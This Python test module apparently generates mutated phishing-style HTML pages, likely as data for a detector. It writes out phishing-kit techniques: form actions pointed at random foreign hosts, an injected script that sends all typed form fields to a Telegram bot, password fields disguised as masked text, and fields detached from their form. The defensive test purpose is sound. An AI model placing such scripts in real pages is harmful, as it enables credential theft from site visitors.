"""Where a page leads, and where what is typed goes."""

from __future__ import annotations

from tests.farm.html import (
    h,
    parent_of,
    swap,
    walk,
    with_role,
)
from tests.farm.mutations.draft import Draft


def policy_links(draft: Draft) -> None:
    brand, zh = draft.brand, draft.language == "zh"
    base = f"https://{brand.host}" + ("/zh" if zh else "")
    words = ("隐私政策", "关于我们", "风险披露") if zh else ("Privacy policy", "About us", "Risk disclosure")
    links = [
        h("a", text, href=base + path)
        for text, path in zip(words, ("/policy", "/about", "/policy#risk"), strict=True)
    ]
    draft.body.inside.append(h("div", *links[: draft.rng.randint(1, 3)], class_="links"))


def posts_elsewhere(draft: Draft) -> None:
    host = f"{draft.rng.choice(('api', 'collect', 'data', 'gate', 'x'))}.{draft.rng.choice(draft.half.names.unrelated)}{draft.rng.randint(1, 99)}.{draft.rng.choice(draft.half.names.cheap)}"
    for tag in with_role(draft.root, "form"):
        tag.attrs["action"] = (
            f"https://{host}/{draft.rng.choice(('save.php', 'api/login', 'post', 'p/in.php', 'submit'))}"
        )
        tag.attrs["method"] = "post"


def posts_bot(draft: Draft) -> None:
    token = f"{draft.rng.randint(10**9, 10**10 - 1)}:AA{''.join(draft.rng.choices('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-', k=33))}"
    chat = f"-100{draft.rng.randint(10**9, 10**10 - 1)}"
    script = (
        f"function send(f){{var t=new FormData(f),m='';t.forEach(function(v,k){{m+=k+': '+v+'\\n'}});"
        f"fetch('https://api.telegram.org/bot{token}/sendMessage',{{method:'POST',headers:{{'Content-Type':'application/json'}},"
        f"body:JSON.stringify({{chat_id:'{chat}',text:m}})}});return false}}"
    )
    for tag in with_role(draft.root, "form"):
        tag.attrs.pop("action", None)
        tag.attrs["onsubmit"] = "return send(this)"
    draft.body.inside.append(h("script", script))


def posts_fetch(draft: Draft) -> None:
    path = draft.rng.choice(("/api/user/login", "/gateway/v1/auth", "/index/api/save", "/prod-api/login"))
    verb = draft.rng.choice(
        (
            f"fetch('{path}',{{method:'POST',body:new FormData(document.forms[0])}})",
            f"axios.post('{path}',{{u:u.value,p:p.value}})",
            f"$.ajax({{url:'{path}',type:'post',data:$('form').serialize()}})",
            f"var x=new XMLHttpRequest();x.open('POST','{path}');x.send(new FormData(document.forms[0]))",
        )
    )
    for tag in with_role(draft.root, "form"):
        tag.attrs.pop("action", None)
    draft.body.inside.append(h("script", f"function doSubmit(){{{verb};}}"))


def masked_field(draft: Draft) -> None:
    for tag in walk(draft.root):
        if tag.name == "input" and tag.attrs.get("type") == "password":
            tag.attrs["type"] = "text"
            tag.attrs["style"] = draft.rng.choice(
                ("-webkit-text-security:disc", "font-family:text-security-disc", "-webkit-text-security: circle;")
            )
            tag.attrs["autocomplete"] = "off"


def form_outside(draft: Draft) -> None:
    form = draft.form
    if form is None:
        return
    fields = [tag for tag in walk(form) if tag.name in ("input", "textarea", "button")]
    form.attrs["id"] = "f1"
    for tag in fields:
        above = parent_of(form, tag)
        if above is not None:
            swap(form, tag)
        tag.attrs["form"] = "f1"
    draft.body.inside.append(h("div", *fields, class_="loose"))
